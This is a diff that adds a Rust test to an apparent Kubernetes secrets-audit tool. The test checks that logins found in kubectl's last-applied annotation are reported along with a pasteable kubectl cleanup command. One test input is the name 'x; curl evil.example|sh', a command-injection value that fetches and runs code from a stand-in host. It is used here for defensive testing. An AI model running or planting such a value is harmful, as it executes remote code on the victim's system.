@@ -107,3 +107,32 @@ fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
     assert_eq!(names("shop", &needs), ["acme", "debug", "ecr"]);
     assert_eq!(names("elsewhere", &BTreeMap::new()), ["acme", "ecr", "other"]);
 }
+
+/// `kubectl apply` leaves a copy of what it applied. The command that removes it is one that can be pasted.
+#[test]
+fn logins_in_an_annotation_are_a_note_with_a_command() {
+    let mapping = mapping::parse(MAPPING).unwrap();
+    let needs = BTreeMap::new();
+    let shelf = Shelf::new("shop", &mapping, &needs);
+    for (name, command) in [
+        ("acme", ": kubectl annotate secret acme -n shop kubectl.kubernetes.io/last-applied"),
+        ("x; curl evil.example|sh", "from now on\""),
+    ] {
+        let asked = |is_in_annotation| Asked {
+            namespace: "shop".to_owned(),
+            name: name.to_owned(),
+            found: Err("not of interest here".to_owned()),
+            is_in_annotation,
+        };
+        for (is_in_annotation, lines) in [(true, 1), (false, 0)] {
+            let (mut spare, mut report) = (Spare::default(), Report::default());
+            shelf.judge(vec![asked(is_in_annotation)], &mut spare, &mut report);
+            let mut out = Vec::new();
+            report.write_json(&mut out).unwrap();
+            let out = String::from_utf8(out).unwrap();
+            let found: Vec<_> = out.lines().filter(|it| it.contains("applied-login")).collect();
+            assert_eq!(found.len(), lines, "{out}");
+            assert!(found.iter().all(|it| it.contains(command)), "{out}");
+        }
+    }
+}
